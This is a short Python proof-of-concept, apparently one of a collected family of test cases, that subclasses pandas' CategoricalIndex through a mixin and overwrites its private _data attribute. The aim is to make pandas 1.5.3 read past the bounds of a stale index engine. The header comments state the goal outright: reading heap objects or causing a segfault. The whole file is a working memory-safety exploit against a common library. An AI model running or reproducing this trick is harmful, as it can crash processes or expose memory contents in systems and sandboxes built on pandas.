# source: mixin/MRO private-name injection; pandas 1.5.3 take_nd over a stale index engine
# family: a plain mixin's class attribute `_data` makes `x._data = v` "the script's own" on x = L() where L also derives from a library class
# goal: out-of-bounds object read through CategoricalIndex engine -> heap objects / segfault
import numpy as np
import pandas as pd


class Meta:
    _data = None


class Labels(Meta, pd.CategoricalIndex):
    pass


cats = list(range(100000))
x = Labels(pd.Categorical([0], categories=cats))
ser = pd.Series(np.array(["x"], dtype=object), index=x)
x._data = pd.Categorical(cats, categories=cats)
print(ser.loc[[99999]])
print(ser.loc[[1, 2, 3, 500, 99999]])
